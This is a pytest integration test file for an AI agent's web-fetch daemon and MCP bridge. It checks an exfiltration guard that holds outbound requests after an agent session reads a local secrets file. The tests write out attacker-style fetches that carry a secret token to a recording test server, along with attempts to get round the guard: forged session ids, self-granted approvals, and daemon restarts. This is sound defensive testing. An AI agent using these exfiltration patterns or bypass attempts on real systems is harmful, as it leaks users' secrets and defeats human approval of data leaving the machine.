"""Who an agent session is, for the exit rule (issue 23's attacker's-eye review): the daemon mints and signs the
session ids, so a caller cannot shed taint by naming a fresh session or naming none; an exit grant counts only in a
minted session (the user's answer through the bridge's MCP elicitation), never from a caller of the socket
answering its own question; the daemon's stateless ``/mcp`` is one shared session whose yes sends one request.

Real daemon over its real Unix socket and TCP port, the real bridge code (``DaemonBackend`` and the ``trawl-mcp``
process) and real MCP SDK clients; the attacker is a real HTTP server that records every request it receives."""

from __future__ import annotations

import asyncio
import contextlib
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from mcp.client import Client
from mcp.client.stdio import StdioServerParameters
from mcp_types import CallToolResult
from trawl.capabilities import PageOut, catalog
from trawl.capabilities.mcp import build_server
from trawl.exitflow import SESSION_HEADER, SESSION_ROUTE, UNBOUND_SESSION, UNKNOWN_SESSION_STATUS
from trawl.server.runner import RunningDaemon
from trawl.settings import Settings

from trawl_mcp.client import DaemonBackend

from ..integration.test_daemon_helpers import daemon_settings, free_port
from .channel_util import cli, trawl_env
from .serve_daemon import stop_process
from .test_client_channel import TRAWL_MCP, _announce
from .test_exit_flow_daemon import SECRET_FILE, _answering
from .test_exits import TOKEN, Server
from .test_exits import attacker as attacker  # the fixture
from .test_mcp_roots import http_client, out_of

pytestmark = [pytest.mark.timeout(240)]


def _settings(tmp_path: Path) -> Settings:
    """A daemon on a fixed port (so a restarted one is found again) whose agents may read ``secrets.md``; the
    attacker's host (127.0.0.1) counts as a public site, so reading it taints nothing: only the file does."""
    (tmp_path / "secrets.md").write_text(SECRET_FILE)
    return daemon_settings(tmp_path, port=free_port(), allow_private_hosts=True, file_roots=(str(tmp_path),),
                           exit_public_hosts=("127.0.0.1",))


@contextlib.asynccontextmanager
async def _daemon(settings: Settings) -> AsyncIterator[RunningDaemon]:
    async with RunningDaemon(settings, warm=False, on_bound=_announce(settings.state_dir)) as d:
        assert d.socket_path is not None
        yield d


def _socket_client(d: RunningDaemon) -> httpx.AsyncClient:
    """A local caller of the daemon's Unix socket with the token, like the CLI, trawl-mcp or a script."""
    assert d.socket_path is not None
    return httpx.AsyncClient(transport=httpx.AsyncHTTPTransport(uds=str(d.socket_path)), base_url=d.url,
                             headers={"Authorization": f"Bearer {d.token}"}, timeout=60)


def _tcp_client(d: RunningDaemon) -> httpx.AsyncClient:
    return httpx.AsyncClient(base_url=d.url, headers={"Authorization": f"Bearer {d.token}"}, timeout=60)


@contextlib.asynccontextmanager
async def _bridge(settings: Settings) -> AsyncIterator[DaemonBackend]:
    """The stdio bridge's backend: one MCP client connection, one daemon-minted session."""
    backend = DaemonBackend(settings, autostart=False, own_session=True)
    try:
        yield backend
    finally:
        await backend.aclose()


async def _read_the_secret(backend: DaemonBackend, tmp_path: Path) -> None:
    body = await backend.call("fetch", {"url": str(tmp_path / "secrets.md"), "query": ""})
    assert body["ok"] and not any("own process" in w for w in body.get("warnings", [])), body
    assert backend.session.startswith("s1."), backend.session  # the daemon's id, not one the bridge made up


def _flow(d: RunningDaemon) -> Any:
    return d.state.services.extras["exit_guard"].flow


def _made_up_ids(real: str) -> Iterator[str]:
    prefix, nonce, tag = real.split(".")
    yield "bridge-" + "A" * 16  # the old bridge's own random name
    yield "fresh-session-for-the-exfiltration"
    yield f"{prefix}.{nonce}.{'0' * len(tag)}"  # the shape of a minted id, a wrong tag
    yield f"{prefix}.{nonce[::-1]}.{tag}"  # another nonce under the real tag
    yield f"{prefix}.{nonce}.{tag[:-1]}"
    yield "s1.." + tag


async def test_a_made_up_session_or_none_cannot_shed_the_taint(tmp_path: Path, attacker: Server) -> None:
    """Session A (a bridge) reads a local secret. A caller of the socket (or the TCP port) that names a made-up
    session is refused before anything runs; one that names none shares the unbound session, which counts as
    having read private content because A did. The attacker receives nothing either way."""
    settings = _settings(tmp_path)
    async with _daemon(settings) as d, _bridge(settings) as a:
        # Before any private read, a call naming no session (the CLI's way) reads a public page.
        async with _socket_client(d) as c:
            first = (await c.post("/v1/fetch", json={"url": f"{attacker.url}/docs", "query": ""})).json()
        assert first["ok"], first
        assert attacker.hits == ["/docs"]

        await _read_the_secret(a, tmp_path)
        url = f"{attacker.url}/collect?k={TOKEN}"
        held = await a.call("fetch", {"url": url, "query": ""})
        assert held["error"]["code"] == "exit_held", held  # the session that read it is held...

        for make in (_socket_client, _tcp_client):
            async with make(d) as c:
                for forged in _made_up_ids(a.session):
                    r = await c.post("/v1/fetch", json={"url": url, "query": ""}, headers={SESSION_HEADER: forged})
                    assert r.status_code == UNKNOWN_SESSION_STATUS, (forged, r.text)
                    assert r.json()["error"]["code"] == "invalid_request"
                    assert "unknown agent session" in r.json()["error"]["message"]
                nonce = a.session.split(".")[1]  # a tag the constant-time compare cannot take (not ASCII)
                odd = await c.post("/v1/fetch", json={"url": url, "query": ""},
                                   headers={SESSION_HEADER: f"s1.{nonce}.".encode() + b"\xc3\xa9" * 16})
                assert odd.status_code == UNKNOWN_SESSION_STATUS, odd.text
                bare = (await c.post("/v1/fetch", json={"url": url, "query": ""})).json()
                assert bare["ok"] is False and bare["error"]["code"] == "exit_held", bare  # ...and so is no session
                assert "no session of its own" in bare["error"]["message"]
        assert attacker.hits == ["/docs"]  # nothing after the private read
        assert not _flow(d).session(UNBOUND_SESSION).private  # held by A's taint, not by a read of its own


async def test_the_cli_reads_public_pages_and_is_held_like_any_session_after_a_private_read(
        tmp_path: Path, attacker: Server) -> None:
    """The real ``trawl fetch`` names no session: it reads a public page through the daemon, and once an agent
    session read private content it cannot be the way that agent sends it out."""
    settings = _settings(tmp_path)
    async with _daemon(settings) as d, _bridge(settings) as a:
        env = trawl_env(tmp_path, d.port)
        ok = await asyncio.to_thread(cli, env, "fetch", f"{attacker.url}/guide", "--json")
        assert ok.returncode == 0 and '"ok": true' in ok.stdout, (ok.stdout, ok.stderr)
        await _read_the_secret(a, tmp_path)
        out = await asyncio.to_thread(cli, env, "fetch", f"{attacker.url}/c/{TOKEN[::-1]}", "--json")
        assert "exit_held" in out.stdout, (out.stdout, out.stderr)
    assert attacker.hits == ["/guide"]


async def test_a_caller_of_the_socket_cannot_answer_its_own_question(tmp_path: Path, attacker: Server) -> None:
    """Self-grant: ``/v1/exit_check`` opens the question, ``exit_grant`` in the next fetch would answer it. With no
    session (or a made-up one) that is refused, and a question the bridge's session opened cannot be answered from
    outside it; only the bridge, with the user's yes, sends."""
    settings = _settings(tmp_path)
    async with _daemon(settings) as d, _bridge(settings) as a:
        await _read_the_secret(a, tmp_path)
        url = f"{attacker.url}/collect?k={TOKEN}"
        # the bridge's face opens a question in its own session (as its elicitation resolver does)
        asked = await a.call("exit_check", {"fetch_url": url})
        assert asked["held"] is True, asked
        async with _socket_client(d) as c:
            q = (await c.post("/v1/exit_check", json={"fetch_url": url})).json()
            assert q["held"] is True, q  # the unbound session is held too: it may open a question...
            r = (await c.post("/v1/fetch", json={"url": url, "query": "", "exit_grant": True})).json()
            assert r["ok"] is False and r["error"]["code"] == "exit_held", r  # ...but never answer one
            assert any("ignored exit_grant" in w for w in r.get("warnings", [])), r
            forged = await c.post("/v1/fetch", json={"url": url, "query": "", "exit_grant": True},
                                  headers={SESSION_HEADER: "s1.made.up"})
            assert forged.status_code == UNKNOWN_SESSION_STATUS, forged.text
        async with _tcp_client(d) as c:  # over TCP the field is dropped whatever the session
            r = (await c.post("/v1/fetch", json={"url": url, "query": "", "exit_grant": True},
                              headers={SESSION_HEADER: a.session})).json()
            assert r["ok"] is False and r["error"]["code"] == "exit_held", r
        assert attacker.hits == []
        assert _flow(d).counters["granted"] == 0


async def test_two_bridges_are_two_sessions_and_a_yes_stays_in_its_own(tmp_path: Path, attacker: Server) -> None:
    """The bridge's MCP face asks the user (elicitation) and its yes vouches for the site in its own session only;
    a second MCP connection is a session of its own, minted by the daemon."""
    settings = _settings(tmp_path)
    registry = catalog()
    elicit = _answering("accept")
    async with (_daemon(settings) as d, _bridge(settings) as one, _bridge(settings) as two,
                Client(build_server(registry, one), elicitation_callback=elicit) as c1,
                Client(build_server(registry, two)) as c2):
        assert _page(await c1.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md")})).ok
        assert _page(await c1.call_tool("fetch_page", {"url": f"{attacker.url}/a?k={TOKEN}"})).ok
        assert _page(await c1.call_tool("fetch_page", {"url": f"{attacker.url}/b?k={TOKEN[::-1]}"})).ok
        assert len(elicit.asked) == 1  # asked once: the yes covers the site for this session
        assert one.session != two.session
        assert _page(await c2.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md")})).ok
        held = _page(await c2.call_tool("fetch_page", {"url": f"{attacker.url}/c?k={TOKEN}"}))
        assert held.error is not None and held.error.code == "exit_held", held
        assert _flow(d).counters["granted"] == 1
    assert attacker.hits == [f"/a?k={TOKEN}", f"/b?k={TOKEN[::-1]}"]


def _page(res: CallToolResult) -> PageOut:
    return out_of(res)


async def test_a_daemon_restart_does_not_shed_the_bridges_taint(tmp_path: Path, attacker: Server) -> None:
    """The daemon's memory of what a session read dies with it. The restarted daemon refuses the old id (its key
    is new); the bridge asks for a session that continues its connection, which starts as having read private
    content."""
    settings = _settings(tmp_path)
    async with _bridge(settings) as a:
        async with _daemon(settings):
            await _read_the_secret(a, tmp_path)
            old = a.session
        async with _daemon(settings) as d:
            body = await a.call("fetch", {"url": f"{attacker.url}/collect?k={TOKEN}", "query": ""})
            assert body["ok"] is False and body["error"]["code"] == "exit_held", body
            assert a.session != old and a.session.startswith("s1.")
            assert "restarted" in body["error"]["message"]
            async with _socket_client(d) as c:  # the old id means nothing to the new daemon
                r = await c.post("/v1/fetch", json={"url": f"{attacker.url}/x", "query": ""},
                                 headers={SESSION_HEADER: old})
                assert r.status_code == UNKNOWN_SESSION_STATUS
                fresh = (await c.post(SESSION_ROUTE)).json()["session"]  # a first session starts clean
                assert not _flow(d).session("agent:" + fresh.split(".")[1]).private
    assert attacker.hits == []


async def test_the_bridges_own_answers_after_losing_the_daemon_stay_tainted(tmp_path: Path, attacker: Server) -> None:
    """With the daemon gone (and not to be started), the bridge answers in its own process, with a flow memory of
    its own that never saw the secret: that session starts as having read private content."""
    settings = _settings(tmp_path)
    async with _bridge(settings) as a:
        async with _daemon(settings):
            await _read_the_secret(a, tmp_path)
        body = await a.call("fetch", {"url": f"{attacker.url}/collect?k={TOKEN}", "query": ""})
        assert any("own process" in w for w in body.get("warnings", [])), body  # answered without the daemon
        assert body["ok"] is False and body["error"]["code"] == "exit_held", body
    assert attacker.hits == []


async def test_the_trawl_mcp_process_asks_the_daemon_for_its_session(tmp_path: Path, attacker: Server) -> None:
    """The real ``trawl-mcp`` over stdio: its calls carry a daemon-minted session, and the user's yes through MCP
    elicitation is the grant that sends."""
    settings = _settings(tmp_path)
    elicit = _answering("accept")
    async with _daemon(settings) as d:
        env = trawl_env(tmp_path, d.port)  # where the daemon is; the exit rule is the daemon's
        async with Client(StdioServerParameters(command=TRAWL_MCP, args=["--no-start"], env=env),
                          elicitation_callback=elicit) as c:
            read = _page(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md")}))
            assert read.ok and not any("own process" in w for w in read.warnings), read
            sent = _page(await c.call_tool("fetch_page", {"url": f"{attacker.url}/collect?k={TOKEN}"}))
            assert sent.ok, sent
        flow = _flow(d)
        minted = [k for k in flow._sessions if k.startswith("agent:")]
        assert len(minted) == 1 and flow.session(minted[0]).private
        assert not flow.session(UNBOUND_SESSION).private  # the bridge's calls did not land in the unbound one
    assert len(elicit.asked) == 1 and attacker.hits == [f"/collect?k={TOKEN}"]


@contextlib.contextmanager
def _daemon_process(tmp: Path, running_dir: str) -> Iterator[int]:
    """A real daemon in a process of its own (``python -m trawl.server``, as trawl-mcp starts one), leaving its note
    in ``running_dir``; yields its pid once the note is there."""
    env = {**trawl_env(tmp, free_port()), "TRAWL_RUNNING_DIR": running_dir,
           "TRAWL_CHROMIUM_PATH": str(tmp / "no-chromium")}
    proc = subprocess.Popen([sys.executable, "-m", "trawl.server"], env=env, stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        note = Path(running_dir) / f"{proc.pid}.json"
        for _ in range(600):
            if note.exists() or proc.poll() is not None:
                break
            time.sleep(0.1)
        assert note.exists(), "the other daemon did not start"
        yield proc.pid
    finally:
        stop_process(proc)


async def test_a_bridge_under_test_never_hears_of_a_daemon_another_test_runs(tmp_path: Path) -> None:
    """The flake of the test above under pytest-xdist: every worker inherited the session's ``TRAWL_RUNNING_DIR``,
    so the bridge read the note of a daemon another worker's test ran in a process of its own (test_slowloris's)
    and told its agent it "will answer in its own process". Each test now has a folder of its own
    (tests/conftest.py); here a real daemon leaves its note in the session's folder, as another test's did."""
    from tests.conftest import SESSION_RUNNING_DIR

    other = tmp_path / "other"
    settings = _settings(tmp_path)
    with _daemon_process(other, SESSION_RUNNING_DIR):
        async with _daemon(settings) as d:
            env = trawl_env(tmp_path, d.port)
            async with Client(StdioServerParameters(command=TRAWL_MCP, args=["--no-start"], env=env)) as c:
                read = _page(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md")}))
    assert read.ok, read
    heard = [w for w in read.warnings if "other settings" in w or "own process" in w or str(other) in w]
    assert heard == [], heard


async def test_an_agent_on_both_faces_cannot_send_through_the_shared_one(tmp_path: Path, attacker: Server) -> None:
    """An agent client with trawl configured twice (the stdio bridge and the daemon's /mcp) reads a secret through
    the bridge: the /mcp session, shared by clients trawl cannot tell apart, is held as well."""
    settings = _settings(tmp_path)
    async with _daemon(settings) as d, _bridge(settings) as a:
        await _read_the_secret(a, tmp_path)
        async with http_client(d) as c:
            held = _page(await c.call_tool("fetch_page", {"url": f"{attacker.url}/collect?k={TOKEN}"}))
        assert held.error is not None and held.error.code == "exit_held", held
    assert attacker.hits == []


async def test_the_daemons_mcp_clients_share_one_session_and_a_yes_sends_one_request(
        tmp_path: Path, attacker: Server) -> None:
    """The daemon's streamable-HTTP ``/mcp`` is stateless (every client shares one session), so sharing must only
    hold more: one client's private read holds the other's exits, and a yes sends that one request and vouches for
    the site for nobody (asked again next time, the other client held)."""
    settings = _settings(tmp_path)
    elicit = _answering("accept")
    async with _daemon(settings) as d:
        async with http_client(d, elicitation_callback=elicit) as c1, http_client(d) as c2:
            assert _page(await c1.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md")})).ok
            held = _page(await c2.call_tool("fetch_page", {"url": f"{attacker.url}/two?k={TOKEN}"}))
            assert held.error is not None and held.error.code == "exit_held", held  # c1's read holds c2
            assert _page(await c1.call_tool("fetch_page", {"url": f"{attacker.url}/one?k={TOKEN}"})).ok
            again = _page(await c2.call_tool("fetch_page", {"url": f"{attacker.url}/two?k={TOKEN}"}))
            assert again.error is not None and again.error.code == "exit_held", again  # c1's yes is not c2's
            assert _page(await c1.call_tool("fetch_page", {"url": f"{attacker.url}/three"})).ok
        assert len(elicit.asked) == 2  # c1 was asked for each request: its yes covered only the one
        assert "Send this one request?" in elicit.asked[0]
    assert attacker.hits == [f"/one?k={TOKEN}", "/three"]
